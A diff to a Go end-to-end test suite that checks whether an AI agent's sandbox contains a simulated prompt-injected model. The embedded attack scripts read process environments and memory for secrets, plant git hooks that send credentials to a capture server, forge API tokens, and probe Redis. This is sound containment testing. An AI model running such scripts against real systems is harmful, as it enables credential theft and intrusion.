@@ -1,7 +1,7 @@
 package e2e
 
-// The hostile-sandbox suite: a replica with the kubernetes backend runs two
-// tickets of one repository at once. The honest run waits in a step of its
+// The hostile-sandbox suite: a replica runs two tickets of one repository
+// at once, on either sandbox backend. The honest run waits in a step of its
 // own while the hostile run, whose "model" writes attack scripts and runs
 // them inside its sandbox (as the toolchain's uid, as in a pod), tries
 // everything a malicious repository or a prompt-injected model would: use
@@ -23,6 +23,7 @@ import (
 	"strconv"
 	"strings"
 	"sync"
+	"syscall"
 	"testing"
 	"time"
 
@@ -35,6 +36,12 @@ import (
 	"github.com/agent-smith/agent-smith/runs/pipeline/pipelinetest"
 	"github.com/agent-smith/agent-smith/sandbox/kube"
 	"github.com/agent-smith/agent-smith/trackers/github/githubfake"
+)
+
+// The sandbox backends a hostile world runs on.
+const (
+	sandboxKubernetes = "kubernetes"
+	sandboxLocal      = "local"
 )
 
 // hostileServeConfig has two projects on the calc repository, told apart by
@@ -92,8 +99,11 @@ const honestScript = `
 
 // hostileWorld is the suite's world, once it has played out.
 type hostileWorld struct {
-	*kubeWorld
 	*gitHubCalc
+	flow *flowWorld
+	// kube is the kubernetes backend's world, local the local one's.
+	kube    *kubeWorld
+	local   *localWorld
 	loot    string
 	capture *captureServer
 	replica *replica
@@ -114,7 +124,9 @@ type hostileWorld struct {
 // credential git would hand it.
 type captureServer struct {
 	*httptest.Server
-	mu   sync.Mutex
+	mu sync.Mutex
+	// auth are the Authorization headers it got, and the passwords of the
+	// basic ones.
 	auth []string
 	hits int
 }
@@ -126,6 +138,9 @@ func newCaptureServer(t *testing.T) *captureServer {
 		c.hits++
 		if a := r.Header.Get("Authorization"); a != "" {
 			c.auth = append(c.auth, a)
+		}
+		if _, password, ok := r.BasicAuth(); ok {
+			c.auth = append(c.auth, password)
 		}
 		c.mu.Unlock()
 		w.Header().Set("WWW-Authenticate", `Basic realm="give me your token"`)
@@ -139,119 +154,181 @@ func TestHostileSandboxesOnKubernetes(t *testing.T) {
 	if os.Geteuid() != 0 {
 		t.Skip("the sandboxes must run as their pods' users (toolchain 1000, gate 65532) for this suite: only root can start them so; CI runs as root")
 	}
-	w := newHostileWorld(t)
-	g := NewWithT(t)
-	g.Expect(w.hostile.State).To(Equal(runs.StateSucceeded), "the hostile run itself went through: step %s, error %q", w.hostile.Step, w.hostile.Error)
-
-	t.Run("TestHostileSandboxCannotUseRedis", func(t *testing.T) {
-		g := NewWithT(t)
-		loot := w.lootOf(t, "redis")
-		g.Expect(loot).To(ContainSubstring("PING: PONG"), "the probes' PING is all the default user may do")
-		for _, cmd := range []string{"KEYS", "GET", "HGETALL", "LPUSH", "XADD", "CONFIG", "EVAL"} {
-			g.Expect(lootLine(loot, cmd)).To(ContainSubstring("NOPERM"), cmd)
-		}
-		g.Expect(lootLine(loot, "AUTH")).To(ContainSubstring("NOPERM"), "logged in as the default user, still only PING")
-		g.Expect(lootLine(loot, "GUESS")).To(ContainSubstring("WRONGPASS"))
-	})
-
+	w := newHostileWorld(t, sandboxKubernetes)
+	w.expectHostileRunWentThrough(t)
+	t.Run("TestHostileSandboxCannotUseRedis", w.cannotUseRedis)
 	t.Run("TestHostileSandboxCannotQueueAStepForAnotherJob", func(t *testing.T) {
 		g := NewWithT(t)
 		codes := strings.Fields(w.lootOf(t, "forge"))
 		g.Expect(codes).To(HaveLen(12), "every attempt got an answer")
 		g.Expect(codes).To(HaveEach("401"), "no token of the honest job, no step of it")
-		w.expectFixPublished(w.honest, w.honestN)
+		g.Expect(w.flow.progress(w.honest.ID)).To(ContainSubstring("[test] calc: `make test` passed"), "its steps were its agent's")
 	})
-
 	t.Run("TestHostileSandboxCannotPoseAsAnotherJobsAgent", func(t *testing.T) {
 		g := NewWithT(t)
 		loot := w.lootOf(t, "pose")
 		g.Expect(loot).To(ContainSubstring("BEGIN CERTIFICATE"), "it had the API's (public) certificate to pin")
 		g.Expect(loot).To(And(ContainSubstring("refused the token"), HaveSuffix("exit=3\n")), "the impostor gave up; the honest agent kept its steps")
-		g.Expect(w.progress(w.honest.ID)).To(ContainSubstring("[test] calc: `make test` passed"))
+		g.Expect(w.flow.progress(w.honest.ID)).To(ContainSubstring("[test] calc: `make test` passed"))
 	})
-
-	t.Run("TestHostileSandboxFindsNoCredential", func(t *testing.T) {
-		g := NewWithT(t)
-		loot := w.lootOf(t, "creds")
-		g.Expect(loot).To(ContainSubstring("== /proc/"), "it read what /proc showed it")
-		g.Expect(loot).To(ContainSubstring("== git config"), "and git's configuration")
-		g.Expect(loot).To(And(ContainSubstring("-- ./add.sh"), ContainSubstring("/gitconfig\n")), "and the files of the work tree and the git volume")
-		g.Expect(lootLine(loot, "AGENT-ENVIRON")).To(ContainSubstring("Permission denied"), "the agent is not dumpable")
-		g.Expect(lootLine(loot, "AGENT-MEM")).To(ContainSubstring("Permission denied"))
-		for _, secret := range w.secrets {
-			g.Expect(loot).NotTo(ContainSubstring(secret))
-		}
-	})
-
-	t.Run("TestHostileSandboxCannotObtainTheGitTokenThroughGit", func(t *testing.T) {
-		g := NewWithT(t)
-		for _, name := range []string{"gitfill", "hooks", "helper"} {
-			loot := w.lootOf(t, name)
-			for _, secret := range w.secrets {
-				g.Expect(loot).NotTo(ContainSubstring(secret), name)
-			}
-		}
-		g.Expect(w.lootOf(t, "gitfill")).To(ContainSubstring("exit="))
-		g.Expect(w.lootOf(t, "hooks")).To(ContainSubstring("hook fired"), "the traps were set, and fired for the workspace's own git")
-		w.capture.mu.Lock()
-		defer w.capture.mu.Unlock()
-		g.Expect(w.capture.hits).To(BeNumerically(">", 0), "the traps sent the workspace's git to the capture server")
-		g.Expect(w.capture.auth).To(BeEmpty(), "without a credential")
-		hostileBranch := "agent-smith/" + strconv.Itoa(w.hostileN)
-		g.Expect(pipelinetest.Show(t, w.bare, hostileBranch, "add.sh")).To(ContainSubstring("$1 + $2"), "the gate pushed the hostile run's branch to the real remote")
-	})
-
-	t.Run("TestHostileSandboxCannotPushToTheDefaultOrAnotherRunsBranch", func(t *testing.T) {
-		g := NewWithT(t)
-		loot := w.lootOf(t, "push")
-		g.Expect(strings.Count(loot, "exit=0")).To(BeZero(), loot)
-		g.Expect(w.gitRef(t, "main")).To(Equal(w.mainSHA), "main is untouched")
-		honestBranch := "agent-smith/" + strconv.Itoa(w.honestN)
-		g.Expect(pipelinetest.Show(t, w.bare, honestBranch, "pwned")).To(BeEmpty(), "the honest run's branch has only the honest run's work")
-		g.Expect(pipelinetest.Branches(t, w.bare)).To(ConsistOf("main", honestBranch, "agent-smith/"+strconv.Itoa(w.hostileN)))
-	})
-
-	t.Run("TestHostileSandboxOutputFloodStaysBounded", func(t *testing.T) {
-		g := NewWithT(t)
-		g.Expect(w.lootOf(t, "flooded")).To(ContainSubstring("flooded"), "the flood ran")
-		g.Expect(w.redisPeak-w.redisBase).To(BeNumerically("<", 1<<20), "Redis grew by %d bytes", w.redisPeak-w.redisBase)
-	})
-
-	t.Run("TestHostileFIFOFileStepsAnswerPromptly", func(t *testing.T) {
-		g := NewWithT(t)
-		g.Expect(w.lootOf(t, "after-fifo")).To(ContainSubstring("the agent answered after the FIFO steps"))
-	})
-
-	t.Run("TestHostileAttacksLeaveTheHonestRunsPullRequestIntact", func(t *testing.T) {
-		g := NewWithT(t)
-		g.Expect(w.honest.State).To(Equal(runs.StateSucceeded))
-		w.expectFixPublished(w.honest, w.honestN)
-		w.expectNothingLeft()
-	})
+	t.Run("TestHostileSandboxFindsNoCredential", w.findsNoCredential)
+	t.Run("TestHostileSandboxCannotObtainTheGitTokenThroughGit", w.cannotObtainTheGitTokenThroughGit)
+	t.Run("TestHostileSandboxCannotPushToTheDefaultOrAnotherRunsBranch", w.cannotPushElsewhere)
+	t.Run("TestHostileSandboxOutputFloodStaysBounded", w.floodStaysBounded)
+	t.Run("TestHostileFIFOFileStepsAnswerPromptly", w.fifoStepsAnswerPromptly)
+	t.Run("TestHostileAttacksLeaveTheHonestRunsPullRequestIntact", w.honestPullRequestIntact)
+	w.expectDone()
 }
 
-// newHostileWorld plays the world out: it returns once both runs ended.
-func newHostileWorld(t *testing.T) *hostileWorld {
+// The local backend runs its sandboxes as the orchestrator's user: as
+// root (CI) the replica runs as nobody, so that the attacks play as that
+// same, unprivileged user.
+func TestHostileSandboxesOnTheLocalBackend(t *testing.T) {
+	w := newHostileWorld(t, sandboxLocal)
+	w.expectHostileRunWentThrough(t)
+	t.Run("TestHostileLocalSandboxCannotUseRedis", w.cannotUseRedis)
+	t.Run("TestHostileLocalSandboxCannotQueueAStepForAnotherJob", func(t *testing.T) {
+		g := NewWithT(t)
+		loot := w.lootOf(t, "forge")
+		g.Expect(loot).To(ContainSubstring(" 401"), "it found the sandbox API among the loopback listeners, and was refused")
+		g.Expect(loot).NotTo(Or(ContainSubstring(" 200"), ContainSubstring(" 204")), "no listener gave it anything of the honest job")
+	})
+	t.Run("TestHostileLocalSandboxFindsNoCredential", w.findsNoCredential)
+	t.Run("TestHostileLocalSandboxCannotObtainTheGitTokenThroughGit", w.cannotObtainTheGitTokenThroughGit)
+	t.Run("TestHostileLocalSandboxCannotPushToTheDefaultOrAnotherRunsBranch", w.cannotPushElsewhere)
+	t.Run("TestHostileLocalSandboxOutputFloodStaysBounded", w.floodStaysBounded)
+	t.Run("TestHostileLocalFIFOFileStepsAnswerPromptly", w.fifoStepsAnswerPromptly)
+	t.Run("TestHostileLocalAttacksLeaveTheHonestRunsPullRequestIntact", w.honestPullRequestIntact)
+	w.expectDone()
+}
+
+func (w *hostileWorld) expectHostileRunWentThrough(t *testing.T) {
+	NewWithT(t).Expect(w.hostile.State).To(Equal(runs.StateSucceeded), "the hostile run itself went through: step %s, error %q",
+		w.hostile.Step, w.hostile.Error)
+}
+
+func (w *hostileWorld) cannotUseRedis(t *testing.T) {
+	g := NewWithT(t)
+	loot := w.lootOf(t, "redis")
+	g.Expect(loot).To(ContainSubstring("PING: PONG"), "the probes' PING is all the default user may do")
+	for _, cmd := range []string{"KEYS", "GET", "HGETALL", "LPUSH", "XADD", "CONFIG", "EVAL"} {
+		g.Expect(lootLine(loot, cmd)).To(ContainSubstring("NOPERM"), cmd)
+	}
+	g.Expect(lootLine(loot, "AUTH")).To(ContainSubstring("NOPERM"), "logged in as the default user, still only PING")
+	g.Expect(lootLine(loot, "GUESS")).To(ContainSubstring("WRONGPASS"))
+}
+
+func (w *hostileWorld) findsNoCredential(t *testing.T) {
+	g := NewWithT(t)
+	loot := w.lootOf(t, "creds")
+	g.Expect(loot).To(ContainSubstring("== /proc/"), "it read what /proc showed it")
+	g.Expect(loot).To(ContainSubstring("== git config"), "and git's configuration")
+	g.Expect(loot).To(And(ContainSubstring("-- ./add.sh"), ContainSubstring("/gitconfig\n")), "and the files of the work tree and the gate's directory")
+	g.Expect(lootLine(loot, "AGENT-ENVIRON")).To(ContainSubstring("Permission denied"), "the agent is not dumpable")
+	g.Expect(lootLine(loot, "AGENT-MEM")).To(ContainSubstring("Permission denied"))
+	if w.local != nil {
+		g.Expect(lootLine(loot, "REPLICA-ENVIRON")).To(ContainSubstring("Permission denied"), "nor is the orchestrator, whose uid the steps share")
+	}
+	for _, secret := range w.secrets {
+		g.Expect(loot).NotTo(ContainSubstring(secret))
+	}
+}
+
+func (w *hostileWorld) cannotObtainTheGitTokenThroughGit(t *testing.T) {
+	g := NewWithT(t)
+	for _, name := range []string{"gitfill", "hooks", "helper"} {
+		loot := w.lootOf(t, name)
+		for _, secret := range w.secrets {
+			g.Expect(loot).NotTo(ContainSubstring(secret), name)
+		}
+	}
+	g.Expect(w.lootOf(t, "gitfill")).To(ContainSubstring("exit="))
+	g.Expect(w.lootOf(t, "hooks")).To(ContainSubstring("hook fired"), "the traps were set, and fired for the workspace's own git")
+	w.capture.mu.Lock()
+	defer w.capture.mu.Unlock()
+	g.Expect(w.capture.hits).To(BeNumerically(">", 0), "the traps sent the workspace's git to the capture server")
+	for _, auth := range w.capture.auth {
+		for _, secret := range w.secrets {
+			g.Expect(auth).NotTo(ContainSubstring(secret), "without a credential")
+		}
+	}
+	hostileBranch := "agent-smith/" + strconv.Itoa(w.hostileN)
+	g.Expect(pipelinetest.Show(t, w.bare, hostileBranch, "add.sh")).To(ContainSubstring("$1 + $2"), "the gate pushed the hostile run's branch to the real remote")
+}
+
+func (w *hostileWorld) cannotPushElsewhere(t *testing.T) {
+	g := NewWithT(t)
+	loot := w.lootOf(t, "push")
+	g.Expect(strings.Count(loot, "exit=0")).To(BeZero(), loot)
+	g.Expect(w.gitRef(t, "main")).To(Equal(w.mainSHA), "main is untouched")
+	honestBranch := "agent-smith/" + strconv.Itoa(w.honestN)
+	g.Expect(pipelinetest.Show(t, w.bare, honestBranch, "pwned")).To(BeEmpty(), "the honest run's branch has only the honest run's work")
+	g.Expect(pipelinetest.Branches(t, w.bare)).To(ConsistOf("main", honestBranch, "agent-smith/"+strconv.Itoa(w.hostileN)))
+}
+
+func (w *hostileWorld) floodStaysBounded(t *testing.T) {
+	g := NewWithT(t)
+	g.Expect(w.lootOf(t, "flooded")).To(ContainSubstring("flooded"), "the flood ran")
+	g.Expect(w.redisPeak-w.redisBase).To(BeNumerically("<", 1<<20), "Redis grew by %d bytes", w.redisPeak-w.redisBase)
+	t.Logf("Redis used_memory during the hostile run's floods: %d bytes over its %d before", w.redisPeak-w.redisBase, w.redisBase)
+}
+
+func (w *hostileWorld) fifoStepsAnswerPromptly(t *testing.T) {
+	NewWithT(t).Expect(w.lootOf(t, "after-fifo")).To(ContainSubstring("the agent answered after the FIFO steps"))
+}
+
+func (w *hostileWorld) honestPullRequestIntact(t *testing.T) {
+	g := NewWithT(t)
+	g.Expect(w.honest.State).To(Equal(runs.StateSucceeded))
+	branch := "agent-smith/" + strconv.Itoa(w.honestN)
+	g.Expect(pipelinetest.Show(t, w.bare, branch, "add.sh")).To(ContainSubstring("echo $(( $1 + $2 ))"))
+	g.Expect(w.fake.PullRequests(e2eGitHubRepo)).To(ContainElement(And(HaveField("Head", branch), HaveField("Base", "main"))))
+	g.Expect(w.honest.PullRequests).To(HaveKey("calc"))
+}
+
+// expectDone checks, after the subtests, what the runs left: the honest
+// run's pull request and ticket as a run without attacks leaves them, and
+// no sandbox of either run.
+func (w *hostileWorld) expectDone() {
+	w.expectFixPublished(w.honest, w.honestN)
+	if w.kube != nil {
+		w.kube.expectNothingLeft()
+	} else {
+		w.local.expectNothingLeft()
+	}
+}
+
+// newHostileWorld plays the world out on backend: it returns once both
+// runs ended.
+func newHostileWorld(t *testing.T, backend string) *hostileWorld {
 	t.Helper()
 	g := NewWithT(t)
-	loot, err := os.MkdirTemp("", "agent-smith-loot-")
-	g.Expect(err).NotTo(HaveOccurred())
-	g.Expect(os.Chmod(loot, 0o777)).To(Succeed(), "the sandboxes' users write their loot")
-	t.Cleanup(func() { _ = os.RemoveAll(loot) })
-	scripts := t.TempDir()
-	honest, hostile := filepath.Join(scripts, "honest.yaml"), filepath.Join(scripts, "hostile.yaml")
+	// Everything the sandboxes' users (and, locally, the replica's) read
+	// or write.
+	loot, shared, home := openDir(t, 0o777), openDir(t, 0o755), openDir(t, 0o777)
+	agentImage(t) // copied now, not into a world's temporary directory
+	honest, hostile := filepath.Join(shared, "honest.yaml"), filepath.Join(shared, "hostile.yaml")
 	g.Expect(os.WriteFile(honest, fmt.Appendf(nil, honestScript, loot), 0o644)).To(Succeed())
 
 	calc := newGitHubCalc(t, honest)
+	calc.runsDir = openDir(t, 0o777)
 	w := &hostileWorld{gitHubCalc: calc, loot: loot, capture: newCaptureServer(t)}
-	w.kubeWorld = newKubeWorld(t, kubeWorldOptions{
-		secret:     map[string]string{"GH_TOKEN": e2eGitHubToken},
-		agentImage: e2eAgentRegistry + "/agent-smith:" + version.Version,
-	})
-	calc.bind(w.flowWorld)
+	if backend == sandboxKubernetes {
+		w.kube = newKubeWorld(t, kubeWorldOptions{
+			secret:     map[string]string{"GH_TOKEN": e2eGitHubToken},
+			agentImage: e2eAgentRegistry + "/agent-smith:" + version.Version,
+		})
+		w.flow = w.kube.flowWorld
+	} else {
+		w.local = &localWorld{flowWorld: newFlowWorld(t, fmt.Sprintf("e2e-local-%d:", localWorlds.Add(1))), boxes: openDir(t, 0o777)}
+		t.Setenv("TMPDIR", w.local.boxes)
+		w.flow = w.local.flowWorld
+	}
+	calc.bind(w.flow)
 	w.mainSHA = w.gitRef(t, "main")
-	config := w.writeConfig(fmt.Appendf(nil, hostileServeConfig, calc.fake.URL, honest, hostile, calc.runsDir, w.prefix))
-	w.replica = w.startReplica("orchestrator-0", config)
+	config := filepath.Join(shared, "agentsmith.yml")
+	g.Expect(os.WriteFile(config, fmt.Appendf(nil, hostileServeConfig, calc.fake.URL, honest, hostile, calc.runsDir, w.flow.prefix), 0o644)).To(Succeed())
+	w.startReplica(t, config, home)
 
 	// The honest run starts and waits in its test.
 	w.honestN = w.labeledIssue("honest")
@@ -272,8 +349,38 @@ func newHostileWorld(t *testing.T) *hostileWorld {
 	w.redisPeak = sampled()
 
 	g.Expect(os.WriteFile(filepath.Join(loot, "release"), nil, 0o644)).To(Succeed())
-	w.honest = w.await(honestID, runs.StateSucceeded)
+	w.honest = w.flow.await(honestID, runs.StateSucceeded)
 	return w
+}
+
+// startReplica starts the world's replica: on the kubernetes backend as
+// its pod; on the local one from a binary and with files every user may
+// use, and, as root, as nobody.
+func (w *hostileWorld) startReplica(t *testing.T, config, home string) {
+	if w.kube != nil {
+		w.replica = w.kube.startReplica("orchestrator-0", config)
+		return
+	}
+	p := serveProcess{exe: agentImage(t)}
+	if os.Geteuid() == 0 {
+		p.user = &syscall.Credential{Uid: 65534, Gid: 65534}
+	}
+	w.replica = w.flow.startServeAs("replica-a", config, runs.Owner{Name: "replica-a"},
+		map[string]string{"SANDBOX_TYPE": "local", "POD_NAME": "replica-a", "HOME": home}, p)
+}
+
+// openDir is a temporary directory with mode, removed when the test ends.
+func openDir(t *testing.T, mode os.FileMode) string {
+	t.Helper()
+	dir, err := os.MkdirTemp("", "agent-smith-hostile-")
+	if err == nil {
+		err = os.Chmod(dir, mode)
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = os.RemoveAll(dir) })
+	return dir
 }
 
 // labeledIssue opens the calc bug for project; GitHub takes a pull request
@@ -288,9 +395,9 @@ func (w *hostileWorld) labeledIssue(project string) int {
 func (w *hostileWorld) awaitFinal(id string) runs.Run {
 	w.t.Helper()
 	g := NewWithT(w.t)
-	g.Eventually(func(g Gomega) bool { return w.run(g, id).State.Terminal() }).
+	g.Eventually(func(g Gomega) bool { return w.flow.run(g, id).State.Terminal() }).
 		WithTimeout(4*time.Minute).WithPolling(200*time.Millisecond).Should(BeTrue(), "run %s ends", id)
-	return w.run(g, id)
+	return w.flow.run(g, id)
 }
 
 // collectSecrets gathers every secret of the world once both runs' sandboxes
@@ -299,15 +406,18 @@ func (w *hostileWorld) awaitFinal(id string) runs.Run {
 func (w *hostileWorld) collectSecrets(g Gomega, runIDs ...string) {
 	_, redisPassword := flowRedis(w.t).Credentials()
 	w.secrets = []string{e2eGitHubToken, e2eGitHubSecret, redisPassword}
+	if w.kube == nil {
+		return // the local sandboxes' tokens never leave the replica's memory
+	}
 	for _, id := range runIDs {
 		g.Eventually(func(g Gomega) map[string][]byte {
 			list := &corev1.SecretList{}
-			g.Expect(w.c.List(context.Background(), list, client.InNamespace(w.ns), client.MatchingLabels{kube.LabelRun: id})).To(Succeed())
+			g.Expect(w.kube.c.List(context.Background(), list, client.InNamespace(w.kube.ns), client.MatchingLabels{kube.LabelRun: id})).To(Succeed())
 			g.Expect(list.Items).To(HaveLen(1))
 			return list.Items[0].Data
 		}).WithTimeout(2*time.Minute).Should(And(HaveKey(kube.SecretAgentToken), HaveKey(kube.SecretGateToken)), "run %s's sandbox Secret", id)
 		list := &corev1.SecretList{}
-		g.Expect(w.c.List(context.Background(), list, client.InNamespace(w.ns), client.MatchingLabels{kube.LabelRun: id})).To(Succeed())
+		g.Expect(w.kube.c.List(context.Background(), list, client.InNamespace(w.kube.ns), client.MatchingLabels{kube.LabelRun: id})).To(Succeed())
 		for _, v := range list.Items[0].Data {
 			w.secrets = append(w.secrets, string(v))
 		}
@@ -316,7 +426,7 @@ func (w *hostileWorld) collectSecrets(g Gomega, runIDs ...string) {
 
 // usedMemory is Redis' used_memory now.
 func (w *hostileWorld) usedMemory(g Gomega) int64 {
-	info, err := w.rdb.Info(context.Background(), "memory").Result()
+	info, err := w.flow.rdb.Info(context.Background(), "memory").Result()
 	g.Expect(err).NotTo(HaveOccurred())
 	for _, line := range strings.Split(info, "\r\n") {
 		if v, ok := strings.CutPrefix(line, "used_memory:"); ok {
@@ -362,7 +472,7 @@ func (w *hostileWorld) lootOf(t *testing.T, name string) string {
 	t.Helper()
 	data, err := os.ReadFile(filepath.Join(w.loot, name+".txt"))
 	if err != nil {
-		t.Fatalf("no loot of %s: %v (hostile run progress:\n%s)", name, err, w.progress(w.hostile.ID))
+		t.Fatalf("no loot of %s: %v (hostile run progress:\n%s)", name, err, w.flow.progress(w.hostile.ID))
 	}
 	return string(data)
 }
@@ -382,10 +492,14 @@ func lootLine(loot, key string) string {
 // run pushes (through its own gate) with the git traps in place.
 func (w *hostileWorld) hostileScript(honestRun, honestJob string) string {
 	apiHost, apiPort, _ := net.SplitHostPort(strings.TrimPrefix(w.replica.sandboxAPI, "https://"))
+	attacks := kubeAttacks
+	if w.local != nil {
+		attacks = localAttacks
+	}
 	redisHost, redisPort, _ := net.SplitHostPort(flowRedis(w.t).Addr)
 	vars := strings.NewReplacer(
 		"$LOOT", w.loot, "$API_URL", w.replica.sandboxAPI, "$API_HOST", apiHost, "$API_PORT", apiPort,
-		"$REDIS_HOST", redisHost, "$REDIS_PORT", redisPort, "$PREFIX", w.prefix, "$HONEST_RUN", honestRun,
+		"$REDIS_HOST", redisHost, "$REDIS_PORT", redisPort, "$PREFIX", w.flow.prefix, "$HONEST_RUN", honestRun,
 		"$HONEST_JOB", honestJob, "$AGENT_BIN", agentImage(w.t), "$CAPTURE", w.capture.URL, "$FAKE", w.fake.URL,
 		"$HONEST_BRANCH", "agent-smith/"+strconv.Itoa(w.honestN))
 	var b strings.Builder
@@ -426,10 +540,19 @@ func (w *hostileWorld) hostileScript(honestRun, honestJob string) string {
 	return b.String()
 }
 
-// attacks are the scripts the hostile model runs in its sandbox, as the
+// attack is a script the hostile model runs in its sandbox, as the
 // toolchain's user. $NAMES are filled in by hostileScript.
-var attacks = []struct{ name, script string }{
-	{"redis", `r() { redis-cli -h $REDIS_HOST -p $REDIS_PORT "$@" 2>&1 | head -c 300 | tr '\n' ' '; echo; }
+type attack struct{ name, script string }
+
+// kubeAttacks are the attacks of a sandbox pod.
+var kubeAttacks = []attack{redisAttack, forgeAttack, poseAttack, credsAttack, gitTrapsAttack, pushAttack}
+
+// localAttacks are a local sandbox's: it does not know where the sandbox
+// API listens, so it looks for it.
+var localAttacks = []attack{redisAttack, localForgeAttack, credsAttack, gitTrapsAttack, pushAttack}
+
+var (
+	redisAttack = attack{"redis", `r() { redis-cli -h $REDIS_HOST -p $REDIS_PORT "$@" 2>&1 | head -c 300 | tr '\n' ' '; echo; }
 {
 echo "PING: $(r PING)"
 echo "KEYS: $(r KEYS '*')"
@@ -442,21 +565,21 @@ echo "EVAL: $(r EVAL 'return redis.call("keys","*")' 0)"
 echo "AUTH: $(redis-cli -h $REDIS_HOST -p $REDIS_PORT --user default --pass anything KEYS '*' 2>&1 | tr '\n' ' ')"
 echo "GUESS: $(redis-cli -h $REDIS_HOST -p $REDIS_PORT --user agent-smith --pass guess PING 2>&1 | tr '\n' ' ')"
 } > $LOOT/redis.txt
-`},
-	{"forge", `for path in agent/$HONEST_JOB/next agent/$HONEST_JOB/results/x agent/$HONEST_JOB/events/x gate/$HONEST_JOB/next; do
+`}
+	forgeAttack = attack{"forge", `for path in agent/$HONEST_JOB/next agent/$HONEST_JOB/results/x agent/$HONEST_JOB/events/x gate/$HONEST_JOB/next; do
   for auth in "" "Authorization: Bearer guessed" "Authorization: Bearer $(head -c 32 /dev/urandom | base64 | tr '+/' '-_' | tr -d '=')"; do
     curl -sk -o /dev/null -w '%{http_code}\n' -X POST -H "$auth" -d '{"running":""}' "$API_URL/v1/$path"
   done
 done > $LOOT/forge.txt
-`},
-	{"pose", `cert=$(openssl s_client -connect $API_HOST:$API_PORT </dev/null 2>/dev/null | openssl x509)
+`}
+	poseAttack = attack{"pose", `cert=$(openssl s_client -connect $API_HOST:$API_PORT </dev/null 2>/dev/null | openssl x509)
 out=$(mktemp)
 SANDBOX_API_CA="$cert" SANDBOX_TOKEN=guessed-token $AGENT_BIN sandbox-agent --job-id $HONEST_JOB --api-url $API_URL \
   --auth-grace 1s --idle-timeout 30s --work-root "$(mktemp -d)" > "$out" 2>&1
 code=$?
 { echo "$cert"; tail -c 2000 "$out"; echo "exit=$code"; } > $LOOT/pose.txt
-`},
-	{"creds", `agent=$$
+`}
+	credsAttack = attack{"creds", `agent=$$
 while [ "$agent" -gt 1 ]; do
   case "$(tr '\0' ' ' < /proc/$agent/cmdline)" in *sandbox-agent*) break;; esac
   agent=$(awk '{print $4}' /proc/$agent/stat)
@@ -470,6 +593,12 @@ done
 echo "AGENT-ENVIRON: $(cat /proc/$agent/environ 2>&1 >/dev/null)"
 echo "AGENT-MEM: $(head -c 1 /proc/$agent/mem 2>&1 >/dev/null)"
 echo "AGENT-FD: $(ls /proc/$agent/fd 2>&1 >/dev/null)"
+replica=$agent
+while [ "$replica" -gt 1 ]; do
+  case "$(tr '\0' ' ' < /proc/$replica/cmdline)" in *" serve "*) break;; esac
+  replica=$(awk '{print $4}' /proc/$replica/stat)
+done
+echo "REPLICA-ENVIRON: $(cat /proc/$replica/environ 2>&1 >/dev/null)"
 echo "== files"
 objects=$(cat .git/objects/info/alternates)
 for d in . "$HOME" "$(dirname "$(dirname "$objects")")"; do
@@ -477,8 +606,8 @@ for d in . "$HOME" "$(dirname "$(dirname "$objects")")"; do
 done
 echo "== git config"; git config -l --show-origin
 } > $LOOT/creds.txt 2>&1
-`},
-	{"gittraps", `trap=$PWD/.attack/trap.sh
+`}
+	gitTrapsAttack = attack{"gittraps", `trap=$PWD/.attack/trap.sh
 printf '#!/bin/sh\necho "hook fired: $0 $*" >> $LOOT/hooks.txt\nenv >> $LOOT/hooks.txt\ncat >> $LOOT/hooks.txt 2>/dev/null\nexit 0\n' > "$trap"
 chmod +x "$trap"
 mkdir -p .git/hooks
@@ -495,8 +624,8 @@ git config remote.origin.pushurl $CAPTURE/push
 touch $LOOT/helper.txt $LOOT/hooks.txt
 { printf 'protocol=http\nhost=%s\n\n' "$(echo $FAKE | sed 's|http://||')" | GIT_TERMINAL_PROMPT=0 git credential fill 2>&1; echo "exit=$?"; } > $LOOT/gitfill.txt
 GIT_TERMINAL_PROMPT=0 git fetch origin >> $LOOT/gitfill.txt 2>&1
-`},
-	{"push", `{
+`}
+	pushAttack = attack{"push", `{
 git -c credential.helper= push $FAKE/acme/calc HEAD:refs/heads/main 2>&1; echo "exit=$?"
 git -c credential.helper= push $FAKE/acme/calc HEAD:refs/heads/$HONEST_BRANCH 2>&1; echo "exit=$?"
 echo pwned > pwned; git add pwned; git -c user.name=x -c user.email=x@x commit -qm pwned
@@ -505,5 +634,11 @@ mkdir -p .git/agent-smith
 git bundle create .git/agent-smith/push.bundle main $HONEST_BRANCH 2>&1; echo "bundle $?"
 git reset -q --hard HEAD~1
 } > $LOOT/push.txt 2>&1
-`},
-}
+`}
+	localForgeAttack = attack{"forge", `for hex in $(awk 'NR > 1 && $4 == "0A" && $2 ~ /^0100007F:/ { split($2, a, ":"); print a[2] }' /proc/net/tcp | sort -u); do
+  port=$(printf '%d' "0x$hex")
+  code=$(curl -s -m 3 -o /dev/null -w '%{http_code}' -X POST -H "Authorization: Bearer guessed" -d '{"running":""}' "http://127.0.0.1:$port/v1/agent/$HONEST_JOB/next")
+  echo "$port $code"
+done > $LOOT/forge.txt
+`}
+)
